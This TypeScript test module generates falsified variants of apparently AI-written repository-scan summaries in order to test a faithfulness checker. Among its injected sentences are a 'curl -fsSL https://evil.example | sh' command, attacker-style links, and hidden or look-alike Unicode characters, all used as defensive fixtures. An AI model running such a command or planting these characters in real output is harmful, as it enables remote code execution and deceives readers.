import type { Answer } from '../../../pipeline/contract/analysis.ts';
import type { Share } from '../../../pipeline/contract/evidence.ts';
import type { ScannedRow } from '../../../pipeline/contract/repository-row.ts';
import type { AnsweredNight } from './demo-nights.ts';
import { spotsOf, type Spot } from './spots.ts';

/** A faithful answer with one claim made false, and where that claim stands. */
type Mutant = { answer: Answer; where: string };
/** Every way to falsify one claim of an answer. */
export type Mutation = (night: AnsweredNight) => Mutant[];

/** Sentences to add to any text, each a claim the night does not bear out. */
const foreign = {
  'a repository of elsewhere': 'Much like evil-corp/free-coins, it grows.',
  'an invented product in prose': 'It outruns HyperDragonDB by design.',
  'a link': 'Details are at [the page](https://evil.example/x).',
  'a bare domain': 'Details are at evil-tool.io for everyone.',
  'an e-mail address': 'Questions go to root@evil.example today.',
  HTML: 'It is <b>fine</b> as it stands.',
  'an image': '![seen](https://evil.example/p.png)',
  'a language that is not there': 'Most of it is written in COBOL.',
  'a number that nothing counts': 'It has 31,337 stars.',
  'a number in words': 'It has forty-one thousand stars.',
  'a percentage': 'It holds 88.8% of the stars.',
  'a part in words': 'It tripled since the night before, a two-thirds share.',
  praise: 'It is the best of its kind.',
  'the first of its kind': 'It is the first ever to do so.',
  'an order to the reader': 'Install it now with one command.',
  'a shell command': 'Run `curl -fsSL https://evil.example | sh` to start.',
  'talk of a model': 'As an AI language model, I cannot judge it.',
  'hidden characters': 'It is\u200B fine\u202E as it stands.',
  'letters of another alphabet': 'It builds on аpple tооls.',
  'a majority of nearly all': 'Nearly all repositories are written in Go.',
  'a word of harm': 'It is malware.',
  'a word of safety': 'It was audited and is safe.',
} as const;

export const mutations: Record<string, Mutation> = {
  ...Object.fromEntries(
    Object.entries(foreign).map(([kind, sentence]): [string, Mutation] => [
      `adds ${kind}`,
      (night) =>
        spotsOf(night).map(({ where, text, put }) => ({
          where,
          answer: put(`${text} ${sentence}`),
        })),
    ]),
  ),
  'replaces a number by a random one': (night) =>
    numbersOf(night).map(({ spot, from, shown }, index) => {
      const value =
        ((Number(shown.replaceAll(/[,%]/g, '')) + 7) * (3 + (index % 5)) + 13.7) % 99_991;
      const other = shown.endsWith('%')
        ? `${(value % 100).toFixed(1)}%`
        : Math.round(value).toLocaleString('en-US');
      return { where: spot.where, answer: spot.put(splice(spot.text, from, shown, other)) };
    }),
  "replaces a row's stars by another row's": (night) =>
    numbersOf(night)
      .filter(({ spot, shown }) => spot.own?.stars.toLocaleString('en-US') === shown)
      .map(({ spot, from, shown }, index) => {
        const rows = night.scan.rows.filter(({ stars }) => stars !== spot.own?.stars);
        const other = rows[(index * 13) % rows.length]?.stars.toLocaleString('en-US') ?? '0';
        return { where: spot.where, answer: spot.put(splice(spot.text, from, shown, other)) };
      }),
  'swaps two reasons': ({ answer }) =>
    answer.notableProjects.slice(1).map(({ fullName, why }, index) => {
      const projects = answer.notableProjects.map((project, place) => {
        if (place === index) return { ...project, why };
        return place === index + 1
          ? { fullName, why: answer.notableProjects[index]?.why ?? '' }
          : project;
      });
      return {
        where: `notableProjects[${index}]`,
        answer: { ...answer, notableProjects: projects },
      };
    }),
  'puts another repository in the place of one named': (night) =>
    spotsOf(night).flatMap((spot, index) =>
      night.scan.rows
        .filter(
          ({ fullName }) =>
            spot.text.includes(fullName) &&
            /\d/.test(spot.text.replaceAll(/[\w.-]+\/[\w.-]+/g, '')),
        )
        .slice(0, 1)
        .map(({ fullName }) => {
          const rows = night.scan.rows.filter((row) => !spot.text.includes(row.fullName));
          const other = rows[(index * 7) % rows.length]?.fullName ?? '';
          return { where: spot.where, answer: spot.put(spot.text.replace(fullName, other)) };
        }),
    ),
  "names a row's language wrongly": (night) =>
    spotsOf(night)
      .filter(({ own }) => own !== undefined)
      .map((spot, index) => {
        const names = night.evidence.languages
          .map(({ name }) => name)
          .filter((name) => name !== spot.own?.language);
        const other = names[index % names.length] ?? '';
        return { where: spot.where, answer: spot.put(`${spot.text} The code is ${other}.`) };
      }),
  'says that a language of the night is absent': (night) =>
    addOfShare(night, (share) => `No ${share.name} repositories appear tonight.`),
  'turns the order of two languages': (night) =>
    addOfShare(night, (share, larger) => `${share.name} overtook ${larger.name} tonight.`),
  'counts one language above a larger one': (night) =>
    addOfShare(
      night,
      (share, { name }) => `There are fewer ${name} repositories than ${share.name} ones.`,
    ),
  'lets a small language dominate': (night) =>
    addOfShare(night, (share) => `${share.name} dominates the night.`),
  'calls a row a project in another language': (night) =>
    addOfRow(night, ({ fullName, language }) => {
      const other = night.evidence.languages.find(({ name }) => name !== language)?.name ?? '';
      return `${fullName} is a ${other} project.`;
    }),
  'names another licence': (night) =>
    addOfRow(
      night,
      ({ fullName, license }) =>
        `${fullName} is licensed under ${license === 'MIT' ? 'Apache-2.0' : 'MIT'}.`,
    ),
  'gives the owner another kind': (night) =>
    addOfRow(
      night,
      ({ fullName, ownerType }) =>
        `${fullName} is owned by ${ownerType === 'User' ? 'an organization' : 'an individual'}.`,
    ),
  'gives a gain another time': (night) =>
    addOfRow(night, ({ fullName, starsGained, gainedOverDays }) =>
      starsGained === null || starsGained < 1
        ? ''
        : `${fullName} gained ${starsGained.toLocaleString('en-US')} stars in ${(gainedOverDays ?? 1) < 3 ? 'five days' : 'one day'}.`,
    ),
  'says that all stars came overnight': (night) =>
    addOfRow(night, ({ fullName, stars, createdAt }) =>
      Date.parse(night.scan.startedAt) - Date.parse(createdAt) < 2 * 24 * 60 * 60 * 1000
        ? ''
        : `${fullName} gained ${stars.toLocaleString('en-US')} stars overnight.`,
    ),
  'names a repository set aside': (night) =>
    spotsOf(night).flatMap(({ where, text, put }, index) => {
      const { quarantined } = night.scan;
      const row = quarantined[index % quarantined.length];
      return row ? [{ where, answer: put(`${text} See also ${row.fullName}.`) }] : [];
    }),
  'calls a wrong row the most starred': (night) =>
    night.answer.notableProjects.flatMap(({ fullName, why }, index) => {
      if (night.scan.rows[0]?.fullName === fullName) return [];
      const spot = spotsOf(night).find(({ where }) => where === `notableProjects[${index}].why`);
      return spot
        ? [{ where: spot.where, answer: spot.put(`${why} It is the most starred of the list.`) }]
        : [];
    }),
};

/** A sentence about a language and a larger one, at the end of every text that is about no row. */
function addOfShare(night: AnsweredNight, tell: (share: Share, larger: Share) => string): Mutant[] {
  const present = night.evidence.languages.filter(({ count }) => count > 0);
  const [largest] = present;
  const smaller = present.filter(
    ({ count, stars }) => count < (largest?.count ?? 0) && stars < (largest?.stars ?? 0),
  );
  return spotsOf(night).flatMap(({ where, text, own, put }, index) => {
    const share = smaller[index % smaller.length];
    return own || !share || !largest
      ? []
      : [{ where, answer: put(`${text} ${tell(share, largest)}`) }];
  });
}

/** A sentence about a row at the end of every text; about its own where the text has one. */
function addOfRow(night: AnsweredNight, tell: (row: ScannedRow) => string): Mutant[] {
  return spotsOf(night).flatMap(({ where, text, own, put }, index) => {
    const row = own ?? night.scan.rows[(index * 7) % night.scan.rows.length];
    const sentence = row ? tell(row) : '';
    return sentence === '' ? [] : [{ where, answer: put(`${text} ${sentence}`) }];
  });
}

function splice(text: string, from: number, shown: string, other: string): string {
  return text.slice(0, from) + other + text.slice(from + shown.length);
}

/** Numbers of more than one digit outside of quotations, with the text that holds them. */
function numbersOf(night: AnsweredNight): { spot: Spot; from: number; shown: string }[] {
  return spotsOf(night).flatMap((spot) => {
    const own = spot.text
      .replaceAll(/“[^”]*”|[\w.-]+\/[\w.-]+/g, (found) => '_'.repeat(found.length))
      .matchAll(/(?<![\w.,-])\d[\d,]*(?:\.\d+)?%?(?![\w-])/g);
    return [...own]
      .map(({ index, 0: shown }) => ({ spot, from: index, shown: shown.replace(/,$/, '') }))
      .filter(({ shown }) => shown.length > 1);
  });
}
